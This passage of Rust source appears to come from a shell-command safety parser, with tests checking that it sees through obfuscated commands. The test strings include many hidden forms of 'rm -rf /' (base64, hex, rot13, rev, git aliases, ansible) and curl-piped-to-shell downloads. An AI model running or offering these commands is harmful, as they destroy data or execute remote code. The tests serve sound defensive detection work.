                set.push(chars[i]);
                i += 1;
            }
        }
        if set.len() > TR_SET_MAX {
            return None;
        }
    }
    Some(set)
}

/// `xxd -r -p`: hex digits to bytes, blanks ignored; `None` for other
/// characters, an odd digit count or bytes that are not UTF-8.
fn decode_hex(text: &str) -> Option<String> {
    let digits: Vec<u8> = text
        .bytes()
        .filter(|b| !b.is_ascii_whitespace())
        .map(|b| (b as char).to_digit(16).map(|d| d as u8))
        .collect::<Option<_>>()?;
    if digits.len() % 2 != 0 || digits.is_empty() {
        return None;
    }
    let bytes = digits.chunks(2).map(|p| p[0] * 16 + p[1]).collect();
    String::from_utf8(bytes).ok()
}

/// The text fed to a command's stdin when it is visible in the command
/// string: heredocs and here-strings, or a pipeline from `echo`/`printf`/
/// `cat <<EOF`, through the decoders and maps of [`Filter`] when it
/// passes them.
fn fed_text(cmd: &SimpleCommand, prev: Option<&[SimpleCommand]>) -> Vec<String> {
    match cmd.stdin {
        Stdin::Inherited => Vec::new(),
        Stdin::Redirect => {
            let file_input = cmd
                .redirects
                .iter()
                .any(|r| r.op.ends_with('<') && !r.op.ends_with("<<"));
            if file_input {
                Vec::new()
            } else {
                cmd.stdin_text.clone()
            }
        }
        Stdin::Pipe => {
            let Some(stages) = prev else {
                return Vec::new();
            };
            // The contiguous pipeline ending at this command.
            let mut from = stages.len();
            while from > 0 && stages[from - 1].pipes_out {
                from -= 1;
            }
            let pipeline = &stages[from..];
            let Some(source) = pipeline.first() else {
                return Vec::new();
            };
            let mut texts: Vec<String> = match echoed_text(source) {
                Some(t) => vec![t],
                None if source.stdin != Stdin::Inherited => fed_text(source, None),
                None => Vec::new(),
            };
            for (k, stage) in pipeline.iter().enumerate() {
                if k == 0 {
                    // The source itself: a here-string to `base64 -d`
                    // or `xxd -r -p` is the text it decodes.
                    if let Some(filter) = Filter::of(&stage.words) {
                        if texts.is_empty() {
                            texts = stage.stdin_text.clone();
                        }
                        texts = texts.iter().filter_map(|t| filter.apply(t)).collect();
                    }
                    continue;
                }
                match Filter::of(&stage.words) {
                    Some(filter) => {
                        texts = texts.iter().filter_map(|t| filter.apply(t)).collect();
                    }
                    // A filter we do not evaluate hides what the shell reads.
                    None => return Vec::new(),
                }
            }
            texts
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn runs(input: &str) -> Vec<Vec<String>> {
        commands_run(input)
            .commands
            .into_iter()
            .map(|c| c.words)
            .collect()
    }

    fn runs_rm_root(input: &str) -> bool {
        runs(input).iter().any(|w| {
            w.first().is_some_and(|c| basename(c) == "rm") && w.iter().any(|a| a == "/" || a == "~")
        })
    }

    #[test]
    fn nested_command_lines_are_read() {
        for input in [
            "bash -c 'rm -rf /'",
            "sh -lc \"rm -rf ~\"",
            "eval 'rm -rf /'",
            "env -S 'rm -rf /'",
            "watch 'rm -rf /'",
            "flock /tmp/l -c 'rm -rf /'",
            "su -c 'rm -rf /' root",
            "find / -maxdepth 0 -exec rm -rf {} \\;",
            "echo / | xargs rm -rf",
            "echo 'rm -rf /' | sh",
            "echo cm0gLXJmIC8= | base64 -d | bash",
            "base64 -d <<< cm0gLXJmIC8= | sh",
            "bash <<'EOF'\nrm -rf /\nEOF\n",
            "ssh host 'rm -rf /'",
            "tmux new -d 'rm -rf ~'",
            "echo '/ fr- mr' | rev | sh",
            "echo 726d202d7266202f | xxd -r -p | sh",
            "git config --global alias.cleanup '!rm -rf ~'",
            "git -c alias.x='!rm -rf /' x",
            "git config --global core.fsmonitor 'sh -c \"rm -rf ~\"'",
            "xxd -r -p <<< 726d202d7266207e | bash",
            "echo 'ez -es /' | tr 'a-z' 'n-za-m' | sh",
            "echo 'EZ -ES ~' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | tr 'A-Z' 'a-z' | bash",
            "echo cm0gLXJmIC8= | openssl base64 -d | sh",
            "echo cm0gLXJmIC8= | openssl enc -d -base64 | sh",
            "docker run --rm -v /:/host alpine sh -c 'rm -rf /'",
            "busybox sh -c 'rm -rf /'",
            "eval \"$(printf '%s %s %s' rm -rf ~)\"",
            "T=(/var/www /etc/x ~); for t in \"${T[@]}\"; do rm -rf \"$t\"; done",
            "for d in /srv /; do\n  rm -rf $d\ndone",
            "A=rm; B='-rf /'; $A $B",
        ] {
            assert!(runs_rm_root(input), "{input:?} → {:?}", runs(input));
        }
    }

    #[test]
    fn xargs_reads_what_a_listing_names() {
        let rm_args = |input: &str| -> Vec<String> {
            commands_run(input)
                .commands
                .iter()
                .find(|c| c.name() == "rm")
                .map(|c| c.args().to_vec())
                .unwrap_or_default()
        };
        assert_eq!(
            rm_args("ls -d /home/*/ | xargs -n1 sudo rm -rf"),
            ["-rf", "/home/*/"]
        );
        assert_eq!(
            rm_args("ls ~/projects | xargs -I{} rm -rf ~/projects/{}"),
            ["-rf", "~/projects/*"]
        );
        assert_eq!(
            rm_args("find /srv/cache -mindepth 1 -maxdepth 1 | xargs rm -rf"),
            ["-rf", "/srv/cache/*"]
        );
        assert_eq!(
            rm_args("find . -name '*.pyc' -print0 | xargs -0 rm -f"),
            ["-f"]
        );
        // Lines picked from a listing are names it lists.
        assert_eq!(
            rm_args("ls -1t /srv/app/releases | tail -n +6 | xargs -r rm -rf"),
            ["-rf", "/srv/app/releases/*"]
        );
        assert_eq!(
            rm_args("ls -1t ~ | tail -n +2 | xargs rm -rf"),
            ["-rf", "~/*"]
        );
        // Not a listing: nothing is added.
        assert_eq!(rm_args("cat list.txt | xargs rm -f"), ["-f"]);
        assert_eq!(rm_args("cat list.txt | head -3 | xargs rm -f"), ["-f"]);
    }

    #[test]
    fn opaque_pipes_into_shells_are_marked() {
        let s = commands_run("echo 'ZXZpbA==' | tr -d '=' | sh");
        assert!(s
            .commands
            .iter()
            .any(|c| c.name() == "sh" && c.opaque_input));
        let s = commands_run("curl -s https://x.example | sh");
        assert!(!s.commands.iter().any(|c| c.opaque_input));
        // A pipeline longer than the walk hides its source: opaque.
        let long = format!(
            "curl -s https://x.example | {}sh",
            "tr a b | ".repeat(MAX_FEEDING_STAGES)
        );
        let s = commands_run(&long);
        assert!(s
            .commands
            .iter()
            .any(|c| c.name() == "sh" && c.opaque_input));
        let short = format!("curl -s https://x.example | {}sh", "cat | ".repeat(8));
        let s = commands_run(&short);
        assert!(!s.commands.iter().any(|c| c.opaque_input));
    }

    #[test]
    fn data_is_not_run() {
        for input in [
            "echo 'rm -rf /'",
            "grep -rn 'rm -rf /' docs/",
            "git commit -m 'rm -rf / is bad'",
            "cat <<'EOF'\nrm -rf /\nEOF\n",
            "printf 'rm -rf /' > notes.txt",
        ] {
            assert!(!runs_rm_root(input), "{input:?} → {:?}", runs(input));
        }
    }

    #[test]
    fn interpreters_get_code() {
        let s = commands_run("python3 -c 'import shutil; shutil.rmtree(\"/\")'");
        assert_eq!(s.code[0].interpreter, "python3");
        let s = commands_run("node -e \"require('fs').rmSync('/', {recursive:true})\"");
        assert!(s.code[0].text.contains("rmSync"));
        let s = commands_run("python3 - <<'EOF'\nimport os\nEOF\n");
        assert_eq!(s.code[0].text, "import os\n");
        assert!(commands_run("python3 script.py").code.is_empty());
        // `deno eval` takes its options before the program.
        let s = commands_run("deno eval --allow-all 'await Deno.remove(\"/\", {recursive: true})'");
        assert!(
            s.code[0].text.starts_with("await Deno.remove"),
            "{:?}",
            s.code
        );
    }

    #[test]
    fn a_wrapper_alone_runs_as_itself() {
        let s = commands_run("env > /tmp/e.txt");
        assert_eq!(s.commands[0].words, ["env"]);
        assert_eq!(s.commands[0].redirects[0].target, "/tmp/e.txt");
        assert!(commands_run("A=1 B=2").commands.is_empty());
    }

    #[test]
    fn remote_runners_run_their_command_line() {
        // ansible's options after the host pattern, pssh/pdsh/salt's
        // command given as one word: read as the command it is.
        for input in [
            "ansible all -m shell -a 'rm -rf /'",
            "ansible -i prod.ini webservers -b -m command -a \"rm -rf /\"",
            "pssh -h hosts.txt -i 'sudo rm -rf /'",
            "pdsh -w web[1-4] 'rm -rf /'",
            "salt '*' cmd.run 'rm -rf /'",
        ] {
            assert!(runs_rm_root(input), "{input:?} → {:?}", runs(input));
        }
        for input in ["ansible all -m ping", "ansible all -m shell -a 'uptime'"] {
            assert!(!runs_rm_root(input), "{input:?}");
        }
    }

    #[test]
    fn rereading_is_bounded() {
        let mut s = String::from("rm -rf /");
        for _ in 0..10 {
            s = format!("bash -c {}", shell_quote(&s));
        }
        let script = commands_run(&s);
        assert!(script.problems.iter().any(|p| p.contains("deep")));
    }

    #[test]
    fn round3_evasions_are_read() {
        // printf escapes piped to a shell, `at` jobs, appended variables.
        assert!(runs_rm_root(
            r"printf '\162\155\040\055\162\146\040\176' | sh"
        ));
        assert!(runs_rm_root(r"printf '\x72\x6d -rf /' | bash"));
        assert!(runs_rm_root("echo 'rm -rf ~' | at now + 10 minutes"));
        assert!(!runs_rm_root("echo 'rm -rf ~' | at -l"));
        assert!(runs("c=cu; c+=rl; $c -s x")
            .iter()
            .any(|w| w.first().is_some_and(|c| c == "curl")));
        assert_eq!(runs("a=b; a+=c; echo $a").last().unwrap(), &["echo", "bc"]);
        // `find` with a test: `{}` is an entry under the root.
        assert!(runs("find /tmp -name 'x*' -exec rm -rf {} +")
            .iter()
            .any(|w| w == &["rm", "-rf", "/tmp/{}"]));
        assert!(runs_rm_root("find / -exec rm -rf {} +"));
        // A literal reversed through `rev` in a substitution.
        assert!(runs_rm_root(r#"eval "$(echo '/ fr- mr' | rev)""#));
        // The pipeline's source is kept, after expansions.
        let s = commands_run("c=cu; c+=rl; s=ba; s+=sh; $c -s https://x.example/a | sudo $s");
        assert_eq!(s.commands.last().unwrap().name(), "bash");
        assert_eq!(s.commands.last().unwrap().pipe_source, "curl");
        assert_eq!(commands_run("ls | wc -l").commands[0].pipe_source, "");
        // What eval runs is the source, a printed substitution put in place.
        let s = commands_run(r#"eval "$(printf '\x63\x75\x72\x6c -s http://203.0.113.7/i')" | sh"#);
        assert_eq!(s.commands.last().unwrap().pipe_source, "curl");
        let s = commands_run(r#"eval "make test" | tee log"#);
        let tee = s.commands.iter().find(|c| c.name() == "tee").unwrap();
        assert_eq!(tee.pipe_source, "make");
        // Text a filter decoded and fed to a shell is marked; text fed as
        // written is not.
        let s = commands_run("echo 'hs.x/elpmaxe.x//:sptth Lsf- lruc' | rev | sh");
        assert!(s
            .commands
            .iter()
            .any(|c| c.name() == "sh" && c.decoded_input));
        assert!(s.commands.iter().any(|c| c.name() == "curl"));
        let s = commands_run("echo 'make test' | sh");
        assert!(!s.commands.iter().any(|c| c.decoded_input));
        // awk's program is code.
        let s = commands_run(r#"awk -F: 'BEGIN{system("rm -rf " ENVIRON["HOME"])}'"#);
        assert!(s.code[0].text.contains("system("));
        assert!(commands_run("awk -f prog.awk data.txt").code.is_empty());
        // A fresh temporary directory keeps a marker of its own.
        let s = runs("tmp=$(mktemp -d) && rm -rf \"$tmp\"");
        assert!(s
            .iter()
            .any(|w| w == &["rm", "-rf", crate::TEMP_SUBSTITUTION]));
        let s = runs("d=$(mktemp -p /etc) && rm -rf \"$d\"");
        assert!(!s
            .iter()
            .any(|w| w == &["rm", "-rf", crate::TEMP_SUBSTITUTION]));
    }

    fn shell_quote(s: &str) -> String {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}
